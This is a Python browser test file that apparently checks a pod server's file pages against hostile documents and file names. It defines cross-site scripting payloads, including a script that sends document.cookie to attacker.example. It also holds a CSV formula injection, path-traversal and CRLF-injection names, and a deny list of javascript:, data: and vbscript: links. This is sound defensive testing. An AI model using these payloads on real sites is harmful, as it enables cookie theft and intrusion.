"""Names and documents that attack whoever looks at them, on every page that shows them: in a real
browser, nothing of them runs, nothing is loaded from elsewhere, and no link leaves the page."""

from __future__ import annotations

import zipfile
from pathlib import Path, PurePosixPath
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.support.browser_people import sign_in_by_token
from tests.support.client import Pod, create_pod
from tests.support.server import ServerProcess, server_fixture

ELSEWHERE = "http://attacker.example"
RUN = f"alert(1);fetch('{ELSEWHERE}/?'+document.cookie)"
HTML = (
    f'<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"></svg>'
    f'<iframe src="javascript:{RUN}"></iframe><a href="javascript:{RUN}">a link</a>'
    f"<img src=\"{ELSEWHERE}/seen.png\"><style>@import '{ELSEWHERE}/style'</style>"
    f'<form action="{ELSEWHERE}"><button autofocus onfocus="{RUN}">x</button></form>'
    f'<base href="{ELSEWHERE}/"><meta http-equiv=refresh content="0;url={ELSEWHERE}">'
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
LITERAL = HTML.replace("\\", "\\\\").replace('"', '\\"')
TURTLE = f"""
@prefix foaf: <http://xmlns.com/foaf/0.1/>.
<#me> a foaf:Person; foaf:name "{LITERAL}"; foaf:homepage <javascript:alert(1)>;
    foaf:img <{ELSEWHERE}/seen.png>, <data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>;
    foaf:knows <vbscript:alert(1)>, </.pages/sign-out>;
    <urn:%22%3E%3Cscript%3Ealert(1)%3C/script%3E> "{LITERAL}"@en .
"""
MARKDOWN = (
    f"# {HTML}\n\n[a link](javascript:alert(1)) ![seen]({ELSEWHERE}/seen.png)\n\n"
    f"<javascript:alert(1)>\n\n```html\n{HTML}\n```\n\n| {HTML} |\n|-|\n| {HTML} |\n"
)
NAMES = (
    "<script>alert(1)</script>.txt",
    '"><img src=x onerror=alert(1)>.png',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "{{ 7 * 7 }} &lt;script&gt;.md",
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "..\\..\\up.txt",
    "../../up.txt",
    "C:\\up.txt",
)
DOCUMENTS = (
    ("page.html", "text/html", HTML),
    ("page.xhtml", "application/xhtml+xml", SVG),
    ("picture.svg", "image/svg+xml", SVG),
    ("picture.png", "image/png", HTML),
    ("paper.pdf", "application/pdf", HTML),
    ("film.mp4", "video/mp4", HTML),
    ("notes.md", "text/markdown", MARKDOWN),
    ("table.csv", "text/csv", f'"{HTML.replace(chr(34), chr(34) * 2)}";b\n=cmd|x;2\n'),
    ("code.js", "text/javascript", f"{RUN} // </script>{HTML}"),
    ("plain.txt", "text/plain", HTML),
    ("facts.ttl", "text/turtle", TURTLE),
    ("facts.jsonld", "application/ld+json", '{"@id": "javascript:alert(1)", "urn:p": "<b>"}'),
    ("data.xml", "text/xml", f'<?xml-stylesheet href="{ELSEWHERE}/style"?><a>{SVG}</a>'),
)
OF_THE_BROWSER = ("chrome:", "chrome-extension:", "data:", "blob:")
"""What it shows films and PDF documents with."""
VIEWS = ("", "?view=statements", "?view=graph", "?view=text", "?view=edit")

pytestmark = pytest.mark.needs("chromium")


server = server_fixture()


@pytest.fixture(scope="module")
def pod(server: ServerProcess) -> Pod:
    """A pod with a folder that somebody else has filled."""
    pod = create_pod(server)
    with pod.owner() as owner:
        for name, media_type, content in (
            *DOCUMENTS,
            *((quote(name, safe=""), "text/plain", HTML) for name in NAMES),
        ):
            answer = owner.put(f"{pod.root}evil/{name}", content, media_type)
            assert answer.status == 201, (name, answer.text)
    return pod


class Watched:
    """What a page did that no content may make it do."""

    def __init__(self, page: Page, base_url: str) -> None:
        self.base_url = base_url
        self.found: list[str] = []
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.found.append(str(error)))
        page.on("popup", lambda opened: self.found.append(f"popup {opened.url}"))
        page.on("request", self._request)

    def _dialog(self, dialog: Dialog) -> None:
        self.found.append(dialog.message)
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.base_url, *OF_THE_BROWSER)):
            self.found.append(request.url)


def opened(page: Page, pod: Pod) -> Watched:
    """Sign in, and watch what happens from then on."""
    sign_in_by_token(page, pod, f"/.pages/files{pod.root}")
    return Watched(page, pod.server.base_url)


def check(page: Page, watched: Watched, address: str) -> None:
    """Nothing has run, and every link leads to a page or openly to a website."""
    assert page.url.split("?")[0] == address.split("?", maxsplit=1)[0]
    assert watched.found == [], address
    for link in page.evaluate("[...document.querySelectorAll('a, area')].map(each => each.href)"):
        assert not str(link).startswith(("javascript:", "data:", "vbscript:")), (address, link)
    actions = "[...document.forms].map(each => new URL(each.action).origin)"
    assert set(page.evaluate(actions)) <= {page.evaluate("origin")}, address


def test_no_document_runs_anything_on_its_pages(page: Page, pod: Pod) -> None:
    watched = opened(page, pod)
    files = f"{pod.server.base_url}/.pages/files{pod.root}evil/"
    for name, media_type, _ in DOCUMENTS:
        for view in VIEWS if media_type in {"text/turtle", "application/ld+json"} else ("",):
            page.goto(files + name + view)
            check(page, watched, files + name + view)


def test_no_document_runs_anything_where_its_bytes_are(page: Page, pod: Pod) -> None:
    """At the address of the pages it is downloaded, or has no origin; a player or a picture shows
    nothing."""
    watched = opened(page, pod)
    for name, _, _ in DOCUMENTS:
        page.evaluate(
            """url => new Promise(resolve => {
                const frame = document.createElement("iframe");
                frame.onload = resolve;
                frame.src = url;
                document.body.append(frame);
                setTimeout(resolve, 300);
            })""",
            f"/.pages/raw{pod.root}evil/{name}",
        )
    assert watched.found == []


def test_no_name_runs_anything_on_any_page(page: Page, pod: Pod) -> None:
    watched = opened(page, pod)
    pages = f"{pod.server.base_url}/.pages/"
    folder = f"{pod.root}evil/"
    addresses = [
        f"{pages}files{folder}",
        f"{pages}files{folder}?view=grid",
        f"{pages}files{folder}?filter={quote(HTML)}",
        f"{pages}search?q={quote('<script>')}",
        f"{pages}search?q=a",
        f"{pages}delete{folder}",
        f"{pages}new{folder}?kind={quote(HTML)}",
        f"{pages}shared?view=by-me",
    ]
    for name in NAMES:
        path = folder + quote(name, safe="")
        addresses += [f"{pages}{kind}{path}" for kind in ("files", "rename", "delete", "share")]
    for address in addresses:
        page.goto(address)
        check(page, watched, address)
    page.goto(f"{pages}files{folder}")
    for name in NAMES[:4]:
        expect(page.get_by_role("link", name=name)).to_be_visible()


def test_an_archive_of_such_names_stays_in_its_folder(page: Page, pod: Pod, tmp_path: Path) -> None:
    opened(page, pod)
    page.goto(f"{pod.server.base_url}/.pages/files{pod.root}evil/")
    page.get_by_label("More actions").click()
    with page.expect_download() as download:
        page.get_by_role("link", name="Download").click()
    saved = tmp_path / "evil.zip"
    download.value.save_as(saved)
    with zipfile.ZipFile(saved) as archive:
        names = archive.namelist()
    assert len(names) >= len(NAMES) + len(DOCUMENTS)
    for name in names:
        assert PurePosixPath(name).parts[0] == "evil"
        assert ".." not in PurePosixPath(name).parts
        assert not {"\\", ":", "\n", "\r"} & set(name)


def test_no_path_leads_out_of_the_pod(page: Page, pod: Pod) -> None:
    opened(page, pod)
    with pod.owner() as owner:
        for path in PATHS:
            for kind in ("files", "raw", "zip", "thumbnail"):
                address = f"{pod.server.base_url}/.pages/{kind}{pod.root}evil/{path}"
                answer = page.request.get(address, max_redirects=0)
                assert answer.status in {303, 400, 403, 404}, (kind, path, answer.status)
            refused = owner.put(f"{pod.root}evil/{path}", "x", "text/plain")
            assert refused.status in {400, 404, 405, 409}, (path, refused.status)


PATHS = ("%2e%2e/%2e%2e/", "%00", "a%0d%0aX-Header:%20c", "//etc/")
